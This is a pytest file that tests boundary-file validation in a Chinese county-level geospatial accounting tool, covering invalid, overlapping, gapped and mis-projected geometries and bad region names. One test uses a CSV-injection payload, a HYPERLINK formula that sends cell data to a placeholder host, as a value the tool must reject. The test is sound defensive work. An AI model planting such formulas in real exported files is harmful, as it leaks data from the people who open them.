"""Boundary files: invalid geometries repaired (notice) or rejected naming the region; empty geometries,
overlaps between leaf regions rejected with the pair and the area; slivers and gaps are notices.

Error cases go through ``qingshan account`` on a modified copy of the example's county file: exit
code 2, the message names the file and the region, nothing recorded as succeeded, no output folder.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import shapely
from shapely.geometry import mapping, shape
from typer.testing import CliRunner

from qingshan.core.errors import RegionError
from qingshan.core.notices import collecting
from qingshan.engine.config import load_config
from qingshan.engine.run import load_regions


def assert_no_trace(directory: Path) -> None:
    """Nothing recorded as succeeded, no output folder, no temporary export folder (as in test_bad_input)."""
    from qingshan.store import repo
    from qingshan.store.db import open_store

    factory = open_store(f"sqlite:///{directory / 'store.sqlite'}")
    assert repo.list_runs(factory, status="succeeded") == []
    assert not (directory / "out").exists(), "output folder was created"
    assert not list(directory.glob(".out.tmp-*")), "temporary export folder left behind"

GEOJSON = "jiangxi_county_tianditu.geojson"
Feature = dict[str, Any]


def _boundaries(example_dir: Path, dst: Path, edit: Callable[[list[Feature]], list[Feature]]) -> Path:
    gj = json.loads((example_dir / GEOJSON).read_text(encoding="utf-8"))
    gj["features"] = edit(gj["features"])
    dst.write_text(json.dumps(gj, ensure_ascii=False), encoding="utf-8")
    return dst


def _feature(features: list[Feature], code: str) -> Feature:
    return next(f for f in features if str(f["properties"]["district_adcode"]) == code)


def _set_geometry(code: str, geometry: Any) -> Callable[[list[Feature]], list[Feature]]:
    def edit(features: list[Feature]) -> list[Feature]:
        f = _feature(features, code)
        f["geometry"] = geometry(shape(f["geometry"])) if callable(geometry) else geometry
        return features

    return edit


def _twisted(poly: Any) -> Any:
    """The polygon's ring with two consecutive vertices swapped: a self-intersecting ring ('bow tie')."""
    coords = list(poly.exterior.coords)[:-1]
    coords[3], coords[4] = coords[4], coords[3]
    return {"type": "Polygon", "coordinates": [[*map(list, coords), list(coords[0])]]}


def _account_rejects(tmp_path: Path, write_config, bad: Path, *needles: str) -> str:  # type: ignore[no-untyped-def]
    from qingshan.cli import app

    cfg = write_config(tmp_path, regions={"file": str(bad)})
    result = CliRunner().invoke(app, ["account", str(cfg)])
    assert result.exit_code == 2, result.output
    out = " ".join(result.output.split())  # rich wraps long lines
    assert "Traceback" not in result.output and "GEOS" not in result.output
    assert bad.name in out and "修正方法" in out
    for n in needles:
        assert n in out, (n, out)
    assert_no_trace(tmp_path)
    return out


def test_empty_geometry_rejected_naming_region(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    bad = _boundaries(example_dir, tmp_path / "empty.geojson", _set_geometry("360102", {"type": "Polygon", "coordinates": []}))
    _account_rejects(tmp_path, write_config, bad, "360102", "东湖区", "empty")


def test_null_geometry_rejected_naming_region(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    bad = _boundaries(example_dir, tmp_path / "null.geojson", _set_geometry("360103", None))
    _account_rejects(tmp_path, write_config, bad, "360103", "西湖区", "为空")


def test_unrepairable_geometry_rejected_naming_region(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    flat = {"type": "Polygon", "coordinates": [[[115, 28], [116, 29], [117, 30], [115, 28]]]}  # zero area
    bad = _boundaries(example_dir, tmp_path / "flat.geojson", _set_geometry("360102", flat))
    _account_rejects(tmp_path, write_config, bad, "360102", "东湖区", "cannot be repaired")


def test_overlapping_counties_rejected_with_pair_and_area(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    """The finding 'Overlapping counties … accepted'."""
    grown = _set_geometry("360102", lambda g: mapping(g.buffer(0.03)))
    bad = _boundaries(example_dir, tmp_path / "overlap.geojson", grown)
    out = _account_rejects(tmp_path, write_config, bad, "360102", "overlap", "km²", "重叠")
    assert out.count("(") >= 2  # both regions named with their names


def test_overlap_error_names_both_regions(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    def edit(features: list[Feature]) -> list[Feature]:
        a, b = _feature(features, "360103"), _feature(features, "360104")
        merged = shape(a["geometry"]).union(shape(b["geometry"]))
        a["geometry"] = mapping(merged)  # 360103 now also covers all of 360104
        return features

    bad = _boundaries(example_dir, tmp_path / "overlap2.geojson", edit)
    with pytest.raises(RegionError) as info:
        load_regions(load_config(write_config(tmp_path, regions={"file": str(bad)})))
    exc = info.value
    assert "360103" in exc.en and "360104" in exc.en
    assert "km²" in exc.en and exc.field == "geometry"
    assert Path(str(exc.file)).name == "overlap2.geojson"


def test_sliver_below_tolerance_is_a_notice(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    bad = _boundaries(example_dir, tmp_path / "sliver.geojson", _set_geometry("360102", lambda g: mapping(g.buffer(1e-6))))
    with collecting() as notes:
        regions = load_regions(load_config(write_config(tmp_path, regions={"file": str(bad)})))
    assert "360102" in regions
    slivers = [n for n in notes if n.code == "boundary_sliver"]
    assert slivers and all("360102" in n.en for n in slivers)


def test_overlap_tolerance_is_configurable(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    grown = _set_geometry("360102", lambda g: mapping(g.buffer(0.001)))
    bad = _boundaries(example_dir, tmp_path / "overlap_small.geojson", grown)
    with pytest.raises(RegionError):
        load_regions(load_config(write_config(tmp_path / "a", regions={"file": str(bad)})))
    with collecting() as notes:
        load_regions(load_config(write_config(tmp_path / "b", regions={"file": str(bad), "overlap_tolerance_km2": 50.0})))
    assert any(n.code == "boundary_sliver" for n in notes)


def test_gap_is_a_notice_naming_the_neighbours(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    shrunk = _set_geometry("360103", lambda g: mapping(g.buffer(-0.01)))
    bad = _boundaries(example_dir, tmp_path / "gap.geojson", shrunk)
    with collecting() as notes:
        load_regions(load_config(write_config(tmp_path, regions={"file": str(bad)})))
    gaps = [n for n in notes if n.code == "boundary_gap"]
    assert gaps, notes
    assert "360103" in gaps[0].en and "km²" in gaps[0].en and gaps[0].zh


def test_self_intersecting_county_is_repaired_with_a_notice(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    bad = _boundaries(example_dir, tmp_path / "bowtie.geojson", _set_geometry("360102", _twisted))
    raw = shape(_feature(json.loads(bad.read_text(encoding="utf-8"))["features"], "360102")["geometry"])
    assert not raw.is_valid  # the test input really is invalid
    with collecting() as notes:
        regions = load_regions(load_config(write_config(tmp_path, regions={"file": str(bad)})))
    repaired = [n for n in notes if n.code == "boundary_repaired"]
    assert len(repaired) == 1 and repaired[0].region == "360102" and "东湖区" in repaired[0].en
    geom = regions.leaves.set_index("code").geometry["360102"]
    assert geom.is_valid and shapely.area(geom) > 0


@pytest.mark.slow
def test_account_with_self_intersecting_county_runs(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    """issue 8: a self-intersecting county gave a GEOS/exactextract traceback; now the run succeeds."""
    from qingshan.cli import app

    bad = _boundaries(example_dir, tmp_path / "bowtie.geojson", _set_geometry("360102", _twisted))
    result = CliRunner().invoke(app, ["account", str(write_config(tmp_path, regions={"file": str(bad)}))])
    assert result.exit_code == 0, result.output


def test_utm_coordinates_labelled_4326_rejected(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    """issue 7: 'UTM coordinates labelled EPSG:4326 … accepted' (here for the boundary file)."""
    import geopandas as gpd

    utm = gpd.read_file(example_dir / GEOJSON).to_crs("EPSG:32650")
    bad = tmp_path / "utm_as_4326.geojson"
    gj = json.loads(utm.to_json())
    gj.pop("crs", None)  # a GeoJSON without "crs" is read as EPSG:4326
    bad.write_text(json.dumps(gj, ensure_ascii=False), encoding="utf-8")
    out = _account_rejects(tmp_path, write_config, bad, "EPSG:4326", "area of use", "坐标系")
    assert "161579" in out  # the observed coordinates are quoted


def _set_name(code: str, name: object) -> Callable[[list[Feature]], list[Feature]]:
    def edit(features: list[Feature]) -> list[Feature]:
        _feature(features, code)["properties"]["district_name"] = name
        return features

    return edit


def test_region_name_read_as_a_formula_is_rejected(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    """A county named ``=HYPERLINK(...)`` in an uploaded boundary file reached results.csv unchanged, where
    Excel and WPS run it as a formula on opening (CSV injection). Rejected now, naming region, field and fix."""
    bad = _boundaries(example_dir, tmp_path / "formula.geojson",
                      _set_name("360102", '=HYPERLINK("http://x.invalid/?"&A1,"东湖区")'))
    out = _account_rejects(tmp_path, write_config, bad, "360102", "district_name", "formula", "公式")
    assert "Traceback" not in out


@pytest.mark.parametrize("name", ["+1", "-东湖区", "@SUM(A1)", "  =1+1"])
def test_every_formula_start_is_rejected(tmp_path: Path, write_config, example_dir: Path, name: str) -> None:  # type: ignore[no-untyped-def]
    bad = _boundaries(example_dir, tmp_path / "formula.geojson", _set_name("360103", name))
    with pytest.raises(RegionError) as info:
        load_regions(load_config(write_config(tmp_path, regions={"file": str(bad)})))
    assert info.value.field == "district_name" and "360103" in info.value.en and info.value.zh


@pytest.mark.parametrize("name", [None, "", "   "])
def test_missing_region_name_is_rejected(tmp_path: Path, write_config, example_dir: Path, name: object) -> None:  # type: ignore[no-untyped-def]
    """A null name became the text 'None' (or 'nan' from a shapefile) in every table; now an error naming it."""
    bad = _boundaries(example_dir, tmp_path / "noname.geojson", _set_name("360103", name))
    with pytest.raises(RegionError) as info:
        load_regions(load_config(write_config(tmp_path, regions={"file": str(bad)})))
    assert info.value.field == "district_name" and "360103" in info.value.en and "没有名称" in info.value.zh


def test_names_are_stripped_alike_in_the_hierarchy_and_the_leaves(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    """The hierarchy stripped names, the leaf table did not: the same county had two spellings."""
    bad = _boundaries(example_dir, tmp_path / "spaces.geojson", _set_name("360103", "\t西湖区 "))
    regions = load_regions(load_config(write_config(tmp_path, regions={"file": str(bad)})))
    assert regions.get("360103").name == "西湖区"
    assert regions.leaves.set_index("code").loc["360103", "name"] == "西湖区"


def test_a_reference_raster_with_a_wrong_crs_label_names_itself(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
    """Found by the unit-mistake pass: the land cover (the reference grid) in degrees but labelled UTM 50N passed
    its own area-of-use check (a few metres near the zone's origin lie in it), and the run stopped with
    "Raster 'aet' has no valid cells", blaming a good file. The error now names the land cover and its CRS."""
    import shutil

    import rasterio

    from qingshan.cli import app

    lulc = tmp_path / "lulc_labelled_utm.tif"
    shutil.copy(example_dir / "lulc_modis_igbp_2019.tif", lulc)
    with rasterio.open(lulc, "r+") as ds:
        ds.crs = "EPSG:32650"
    cfg = write_config(tmp_path, inputs={"lulc": str(lulc)})
    result = CliRunner().invoke(app, ["account", str(cfg)])
    out = " ".join(result.output.split())
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output and "aet" not in out.split("Fix")[0], out
    assert "lulc_labelled_utm.tif" in out and "does not meet the regions" in out and "不相交" in out
    assert "gdal_edit.py -a_srs EPSG:4326" in out
    assert_no_trace(tmp_path)
